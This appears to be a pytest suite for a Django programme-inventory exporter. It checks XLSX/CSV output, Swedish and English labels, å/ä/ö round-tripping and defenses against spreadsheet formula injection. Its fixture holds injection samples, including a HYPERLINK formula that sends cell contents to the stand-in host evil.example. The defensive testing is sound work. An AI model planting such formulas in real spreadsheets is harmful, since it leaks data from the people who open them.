"""Inventory export: every sheet, the user's language, formula neutralisation, å ä ö."""

import codecs
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from alakompass import spreadsheets
from programs import exporting, importing
from programs.models import Activity, ActivityPartner, LearningOutcome, ProgramCourse
from tests import factories

pytestmark = pytest.mark.django_db

SWEDISH = "Åsa Öberg på Älvsjö äng – ÅÄÖåäö"
DANGEROUS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
    "description": "+46 70 123 45 67",
    "depth_motivation": "-2+3",
    "partner": "@SUM(A1:A9)",
    "minutes": "\tgömd flik",
}


@pytest.fixture
def inventory(program):
    """A programme with something in every sheet, including hostile and Swedish text."""
    course = factories.CourseFactory(code="DT001G", name_sv=SWEDISH, name_en="Course")
    factories.ProgramCourseFactory(
        program=program, course=course, year=2, term=3, kind=ProgramCourse.Kind.ELECTIVE
    )
    activity = factories.ActivityFactory(
        program=program,
        course=course,
        title=DANGEROUS["title"],
        description=DANGEROUS["description"],
        status=Activity.Status.MANDATORY,
        hp=Decimal("7.5"),
        hours=Decimal("12.5"),
        depth_motivation=DANGEROUS["depth_motivation"],
        reflection=True,
    )
    outcome = factories.LearningOutcomeFactory(program=program, code="LM1", text=SWEDISH)
    activity.outcomes.add(outcome)
    partner = factories.PartnerFactory(name=DANGEROUS["partner"], region="Skåne")
    factories.ActivityPartnerFactory(
        activity=activity, partner=partner, role=ActivityPartner.Role.HOST
    )
    council = factories.CouncilFactory(program=program, name="Programrådet för ämnet")
    factories.CouncilMemberFactory(council=council, organisation_name="Region Örebro län")
    factories.CouncilMeetingFactory(council=council, minutes=DANGEROUS["minutes"])
    agreement = factories.AgreementFactory(partner=partner, title="Avtal om VFU-platser")
    agreement.programs.add(program)
    factories.LearningOutcomeFactory(
        program=program, level=LearningOutcome.Level.COURSE, course=course, text="Kursmål"
    )
    return program


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def get(client, name, program, language="sv", **params):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    return client.get(reverse(f"programs:{name}", args=[program.pk]), params)


def workbook_from(response):
    return load_workbook(io.BytesIO(response.content))


def test_xlsx_has_every_sheet_in_swedish(client, inventory, coordinator):
    client.force_login(coordinator)
    response = get(client, "inventory_export_xlsx", inventory)
    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
    workbook = workbook_from(response)
    assert len(workbook.sheetnames) == len(exporting.SHEET_KEYS)
    courses = workbook.worksheets[1]
    header = [cell.value for cell in courses[1]]
    assert header[0] == "Kurskod"
    assert courses["G2"].value == "Valbar"


def test_xlsx_neutralises_formulas_and_keeps_numbers(client, inventory, coordinator):
    client.force_login(coordinator)
    workbook = workbook_from(get(client, "inventory_export_xlsx", inventory))
    text_cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(cell.data_type == "s" for cell in text_cells)  # no formula cells at all
    values = {cell.value for cell in text_cells}
    assert "'" + DANGEROUS["title"] in values
    assert "'" + DANGEROUS["description"] in values
    assert "'" + DANGEROUS["depth_motivation"] in values
    assert "'" + DANGEROUS["minutes"] in values
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in values)
    activities = workbook.worksheets[2]
    header = [cell.value for cell in activities[1]]
    row = {header[i]: cell for i, cell in enumerate(activities[2])}
    assert row["Högskolepoäng (hp)"].value == 7.5
    assert row["Högskolepoäng (hp)"].data_type == "n"
    assert row[header[-2]].value.startswith("'" + DANGEROUS["partner"])


def test_csv_neutralises_formulas(client, inventory, coordinator):
    client.force_login(coordinator)
    rows = read_csv(get(client, "inventory_export_csv", inventory, sheet="activities").content)
    cells = [cell for row in rows for cell in row]
    assert "'" + DANGEROUS["title"] in cells
    assert "'" + DANGEROUS["description"] in cells
    assert "'" + DANGEROUS["depth_motivation"] in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    partners = read_csv(get(client, "inventory_export_csv", inventory, sheet="partners").content)
    assert "'" + DANGEROUS["partner"] in partners[1]
    council = read_csv(get(client, "inventory_export_csv", inventory, sheet="council").content)
    assert "'" + DANGEROUS["minutes"] in [cell for row in council for cell in row]


def test_swedish_characters_round_trip_in_csv_and_xlsx(client, inventory, coordinator):
    client.force_login(coordinator)
    rows = read_csv(get(client, "inventory_export_csv", inventory, sheet="courses").content)
    assert rows[1][1] == SWEDISH
    workbook = workbook_from(get(client, "inventory_export_xlsx", inventory))
    assert workbook.worksheets[1]["B2"].value == SWEDISH
    outcomes = [c.value for row in workbook.worksheets[3].iter_rows() for c in row]
    assert SWEDISH in outcomes


def test_csv_uses_semicolons_and_decimal_comma_in_swedish(client, inventory, coordinator):
    client.force_login(coordinator)
    content = get(client, "inventory_export_csv", inventory, sheet="courses").content
    text = content.decode("utf-8-sig")
    assert text.splitlines()[1].startswith(f"DT001G;{SWEDISH};Course;7,5;2;3;Valbar")


def test_english_headers_and_labels_when_the_language_is_english(client, inventory, coordinator):
    client.force_login(coordinator)
    rows = read_csv(
        get(client, "inventory_export_csv", inventory, language="en", sheet="courses").content
    )
    assert rows[0][:4] == ["Course code", "Name (Swedish)", "Name (English)", "Credits (hp)"]
    assert rows[1][3] == "7.5"
    assert rows[1][6] == "Elective"
    workbook = workbook_from(get(client, "inventory_export_xlsx", inventory, language="en"))
    assert workbook.sheetnames[:3] == ["Programme", "Courses", "Activities"]
    assert workbook.worksheets[1]["A1"].value == "Course code"


def test_default_csv_is_the_activities_table(client, inventory, coordinator):
    client.force_login(coordinator)
    response = get(client, "inventory_export_csv", inventory)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response.content)
    assert len(rows) == 2
    assert "'" + DANGEROUS["title"] in rows[1]


def test_unknown_sheet_is_404(client, inventory, coordinator):
    client.force_login(coordinator)
    assert get(client, "inventory_export_csv", inventory, sheet="users").status_code == 404


def test_download_names_carry_code_and_date(client, inventory, coordinator):
    client.force_login(coordinator)
    today = datetime.date.today().isoformat()
    response = get(client, "inventory_export_xlsx", inventory, language="en")
    assert response["Content-Disposition"] == (
        f'attachment; filename="{inventory.code}-inventory-{today}.xlsx"'
    )
    response = get(client, "inventory_export_csv", inventory, language="en", sheet="courses")
    assert f"{inventory.code}-inventory-courses-{today}.csv" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]


def test_every_sheet_holds_the_programmes_data(inventory):
    sheets = {sheet.key: sheet for sheet in exporting.inventory_sheets(program=inventory)}
    assert set(sheets) == set(exporting.SHEET_KEYS)
    program_fields = dict(sheets["program"].rows)
    assert inventory.code in program_fields.values()
    assert len(sheets["courses"].rows) == 1
    assert len(sheets["activities"].rows) == 1
    assert len(sheets["outcomes"].rows) == 2
    assert len(sheets["partners"].rows) == 1
    assert len(sheets["council"].rows) == 3  # the council, one member, one meeting
    assert sheets["agreements"].rows[0][0] == "Avtal om VFU-platser"
    activity_row = sheets["activities"].rows[0]
    assert len(activity_row) == len(sheets["activities"].headers)


def test_export_of_another_programme_leaves_this_one_out(inventory, other_program):
    factories.ActivityFactory(program=other_program, title="Annan aktivitet")
    sheet = exporting.inventory_sheet(program=inventory, key="activities")
    assert [row[1] for row in sheet.rows] == [DANGEROUS["title"]]


def test_export_queries_do_not_grow_with_activities(inventory, django_assert_max_num_queries):
    for _n in range(10):
        factories.ActivityFactory(program=inventory)
    with django_assert_max_num_queries(4):
        exporting.inventory_sheet(program=inventory, key="activities")


def test_exported_course_list_imports_back_unchanged(client, inventory, coordinator):
    client.force_login(coordinator)
    for language in ("sv", "en"):
        response = get(
            client, "inventory_export_csv", inventory, language=language, sheet="courses"
        )
        result = importing.course_list_preview(
            program=inventory, user=coordinator, data=response.content, filename="kurser.csv"
        )
        assert [row.status for row in result.rows] == [importing.RowStatus.UNCHANGED], language
        workbook = get(client, "inventory_export_xlsx", inventory, language=language).content
        result = importing.course_list_preview(
            program=inventory, user=coordinator, data=workbook, filename="inventering.xlsx"
        )
        assert [row.status for row in result.rows] == [importing.RowStatus.UNCHANGED], language


def test_export_page_links_every_download(client, inventory, board_member):
    client.force_login(board_member)
    content = get(client, "inventory_export", inventory).content.decode()
    assert reverse("programs:inventory_export_xlsx", args=[inventory.pk]) in content
    for key in exporting.SHEET_KEYS:
        assert f"?sheet={key}" in content
